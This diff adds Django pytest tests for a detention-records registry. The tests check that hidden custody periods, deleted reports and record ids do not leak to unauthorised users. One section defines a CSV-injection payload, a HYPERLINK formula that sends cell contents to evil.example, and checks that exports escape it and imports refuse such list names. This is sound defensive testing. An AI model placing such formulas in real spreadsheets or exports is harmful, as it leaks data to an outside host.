@@ -8,6 +8,7 @@ from django.contrib.contenttypes.models import ContentType
 
 from tests.factories import make_custody, make_person
 from vigil.accounts.models import ApiToken
+from vigil.dates import PartialDate
 from vigil.registry import models as m
 
 pytestmark = pytest.mark.django_db
@@ -100,3 +101,190 @@ def test_history_shows_a_description_that_was_always_public(
         description="TEXT-ALWAYS-PUBLIC", description_sensitivity=m.Sensitivity.PUBLIC)
     assert "TEXT-ALWAYS-PUBLIC" in seen_by(client, documenter_b,
                                            f"/persons/{person.pk}/history/")
+
+
+# 3. Validation says nothing about records the actor may not see ---------------------------
+
+
+@pytest.fixture
+def hidden_custody(org_a, coalition):
+    """A's person shared with B; A's administrative arrest is A's alone."""
+    person = make_person(org_a, visibility=SHARED)
+    hidden = m.CustodyPeriod(person=person, organisation=org_a,
+                             visibility=m.Visibility.ORGANISATION, kind="administrative",
+                             end_reason="served")
+    hidden.set_partial("started", PartialDate.parse("2024-01-10"))
+    hidden.set_partial("ended", PartialDate.parse("2024-01-25"))
+    hidden.save()
+    return person
+
+
+def custody_form(**fields):
+    return {"kind": "pretrial", "visibility": "organisation", **fields}
+
+
+def test_an_overlap_with_a_period_one_may_not_see_is_not_described(
+        client, hidden_custody, documenter_b, org_b):
+    client.force_login(documenter_b)
+    response = client.post(f"/persons/{hidden_custody.pk}/custody/new/",
+                           custody_form(started="2024-01-15", ended="2024-01-20",
+                                        end_reason="released"))
+    assert response.status_code == 302
+    assert b"2024-01-10" not in response.content and b"administrative" not in response.content
+    # B's own account of the detention is kept beside A's; neither is changed
+    assert m.CustodyPeriod.objects.filter(person=hidden_custody, organisation=org_b).count() == 1
+    assert m.CustodyPeriod.objects.get(person=hidden_custody, organisation__slug="org-a"
+                                       ).partial("started") == PartialDate.parse("2024-01-10")
+
+
+def test_the_api_says_nothing_about_a_hidden_overlap(client, hidden_custody, documenter_b):
+    _record, token = ApiToken.issue(documenter_b, "t")
+    response = client.post(
+        f"/api/v1/persons/{hidden_custody.pk}/custody", content_type="application/json",
+        data=json.dumps(custody_form(started="2024-01-12")),
+        HTTP_AUTHORIZATION=f"Bearer {token}")
+    assert response.status_code == 201
+    assert b"2024-01-10" not in response.content
+
+
+def test_an_overlap_with_a_period_one_sees_is_still_refused(
+        client, hidden_custody, documenter_a):
+    client.force_login(documenter_a)
+    response = client.post(f"/persons/{hidden_custody.pk}/custody/new/",
+                           custody_form(started="2024-01-15"))
+    assert response.status_code == 400
+    assert "overlaps another custody period" in response.text
+    assert m.CustodyPeriod.objects.filter(person=hidden_custody).count() == 1
+
+
+def test_a_linked_record_one_may_not_see_is_not_offered_in_a_form(
+        client, org_a, org_b, coalition, documenter_b):
+    person = make_person(org_a, visibility=SHARED)
+    m.Statement.objects.create(organisation=org_a, title="PRIVATE-STATEMENT-OF-A",
+                               published_on=PartialDate.parse("2023-05-21").first_day,
+                               text="x")
+    page = seen_by(client, documenter_b, f"/persons/{person.pk}/recognition/new/")
+    assert "PRIVATE-STATEMENT-OF-A" not in page
+
+
+# 5. Deleted records are history for administrators only -----------------------------------
+
+
+@pytest.fixture
+def deleted_report(org_a, condition_type, documenter_a):
+    person = make_person(org_a)
+    report = m.ConditionReport.objects.create(
+        person=person, organisation=org_a, condition=condition_type,
+        started=PartialDate.parse("2022-03-01").first_day, description="DELETED-REPORT")
+    report.soft_delete(documenter_a)
+    return person
+
+
+@pytest.mark.parametrize("reader, shown", [("viewer_a", False), ("documenter_a", False),
+                                           ("admin_a", True)])
+def test_a_deleted_record_is_in_history_for_administrators_only(
+        client, deleted_report, reader, shown, request):
+    page = seen_by(client, request.getfixturevalue(reader),
+                   f"/persons/{deleted_report.pk}/history/")
+    assert ("DELETED-REPORT" in page) is shown
+
+
+# 6. No id of a record the reader may not see -----------------------------------------------
+
+
+@pytest.fixture
+def report_on_hidden_custody(org_a, coalition, condition_type):
+    person = make_person(org_a, visibility=SHARED)
+    custody = make_custody(person, "2021-07-14")
+    custody.visibility = m.Visibility.ORGANISATION
+    custody.save()
+    report = m.ConditionReport.objects.create(
+        person=person, organisation=org_a, visibility=SHARED, condition=condition_type,
+        custody=custody, started=custody.started, description_sensitivity="public")
+    return person, custody, report
+
+
+def test_an_api_answer_holds_no_id_of_a_record_the_reader_may_not_see(
+        client, report_on_hidden_custody, documenter_b, documenter_a):
+    person, custody, report = report_on_hidden_custody
+    path = f"/api/v1/persons/{person.pk}/conditions/{report.pk}"
+    assert json.loads(seen_by(client, documenter_b, path, api=True))["custody"] is None
+    listed = json.loads(seen_by(client, documenter_b, f"/api/v1/persons/{person.pk}/conditions",
+                                api=True))
+    assert listed["results"][0]["custody"] is None
+    assert json.loads(seen_by(client, documenter_a, path, api=True))["custody"] == custody.pk
+
+
+def test_history_holds_no_id_of_a_record_the_reader_may_not_see(
+        client, report_on_hidden_custody, documenter_b):
+    person, custody, _report = report_on_hidden_custody
+    page = seen_by(client, documenter_b, f"/persons/{person.pk}/history/")
+    assert f"custody</b>: — → {custody.pk}<" not in page
+    assert "custody</b>: [withheld]" in page
+
+
+# 7. No CSV cell is a formula; no list is named like one -------------------------------------
+
+FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"open")'
+
+
+@pytest.fixture
+def formula_decision(org_a, documenter_a):
+    from django.utils import timezone
+
+    from vigil.lists.models import MatchDecision
+
+    return MatchDecision.objects.create(
+        organisation=org_a, a_list=FORMULA, a_id="+375291234567", b_list="viasna", b_id="7",
+        same=True, decided_by=documenter_a, decided_at=timezone.now())
+
+
+def cells_of(text):
+    import csv
+    import io
+
+    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]
+
+
+def test_decisions_csv_escapes_every_cell(client, formula_decision, admin_a):
+    client.force_login(admin_a)
+    cells = cells_of(client.get("/lists/decisions.csv").content.decode())
+    assert "'" + FORMULA in cells and "'+375291234567" in cells
+    assert not [c for c in cells if c.startswith(("=", "+", "-", "@"))]
+
+
+def test_export_decisions_escapes_every_cell(formula_decision, org_a):
+    import io
+
+    from django.core.management import call_command
+
+    out = io.StringIO()
+    call_command("export_decisions", "--org", org_a.slug, stdout=out)
+    cells = cells_of(out.getvalue())
+    assert "'" + FORMULA in cells
+    assert not [c for c in cells if c.startswith(("=", "+", "-", "@"))]
+
+
+def test_a_list_named_like_a_formula_is_refused_on_the_page(client, documenter_a):
+    from django.core.files.uploadedfile import SimpleUploadedFile
+
+    from vigil.lists.models import PendingImport
+
+    client.force_login(documenter_a)
+    upload = SimpleUploadedFile("list.csv", b"id,name\n1,Ales Bialiatski\n")
+    response = client.post("/lists/import/", {"file": upload, "list_name": FORMULA})
+    assert response.status_code == 400
+    assert "formula" in response.content.decode()
+    assert not PendingImport.objects.exists()
+
+
+def test_a_list_named_like_a_formula_is_refused_by_the_command(org_a, tmp_path):
+    from django.core.management import CommandError, call_command
+
+    from vigil.lists.models import ListVersion
+
+    path = tmp_path / "list.csv"
+    path.write_text("id,name\n1,Ales Bialiatski\n")
+    with pytest.raises(CommandError, match="formula"):
+        call_command("import_list", str(path), "--org", org_a.slug, "--list-name", "@SUM(1)")
+    assert not ListVersion.objects.exists()
